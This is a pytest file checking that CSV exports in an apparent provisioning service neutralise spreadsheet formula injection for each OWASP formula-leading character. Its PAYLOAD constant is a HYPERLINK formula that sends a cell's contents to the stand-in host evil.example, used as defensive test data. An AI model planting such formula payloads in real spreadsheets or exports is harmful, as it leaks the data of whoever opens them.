"""CSV exports open in a spreadsheet as text, never as formulas (issue 16, finding 6): one helper in
the chassis, tested with each formula-leading character, used by both exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from chassis.clock import ManualClock
from chassis.exports import FORMULA_LEADS, csv_text, spreadsheet_safe
from ism_provisioning.configuration import Configuration, Terminal
from ism_provisioning.tables import section_as_csv
from support import app as support_app
from tests.test_support import START, ok

PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
def test_each_formula_leading_character_is_neutralised(lead: str):
    cell = lead + PAYLOAD
    assert spreadsheet_safe(cell) == "'" + cell
    [row] = list(csv.reader(io.StringIO(csv_text(["h"], [[cell]]))))[1:]
    assert row == ["'" + cell]


def test_the_six_leading_characters_are_the_owasp_ones():
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("value", ["Acme", "12", "-12.5", "+33102030405", "", "a=b", " =1", None, 3])
def test_data_is_left_as_it_is(value):
    assert spreadsheet_safe(value) == ("" if value is None else str(value))


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
def test_the_ism_configuration_export_neutralises_the_integrators_text(lead: str):
    configuration = Configuration(
        offers=(),
        metropolitan_tariffs=(),
        international_tariffs=(),
        terminals=(Terminal(brand=lead + PAYLOAD, model="@SUM(1+1)", price_eur=Decimal("-1")),),
    )
    rows = list(csv.reader(io.StringIO(section_as_csv(configuration, "terminals"))))
    assert rows[1] == ["'" + lead + PAYLOAD, "'@SUM(1+1)", "-1"]


async def test_the_approved_integrators_export_neutralises_the_integrators_cells(service):
    async with service(support_app, clock=ManualClock(START), run_schedules=False) as svc:
        tech = svc.auth("technician")
        # An integrator support has no company data for is listed by its id, as it came.
        integrator = "-2-3"  # Excel shows -5: a formula (the ids allow [A-Za-z0-9_.:-])
        base = f"/approvals/{integrator}"
        name = "Anne"
        await ok(
            await svc.http.post(
                f"{base}/employees", json={"employee_name": name, "represents_integrator": True}, headers=tech
            )
        )
        await ok(
            await svc.http.post(
                f"{base}/trainings",
                json={"employee_name": name, "session_date": "2026-02-27", "trainer": "GGL"},
                headers=tech,
            )
        )
        await ok(
            await svc.http.post(
                f"{base}/charter-signatures",
                json={
                    "employee_name": name,
                    "signed_on": "2026-02-27",
                    "charter_version": "DOC-QLT-18122014",
                },
                headers=tech,
            )
        )
        exported = await svc.http.get("/approved-integrators.csv", headers=tech)
        assert exported.status_code == 200, exported.text
        rows = list(csv.reader(io.StringIO(exported.text)))
        assert rows[1][0] == "'" + integrator, rows
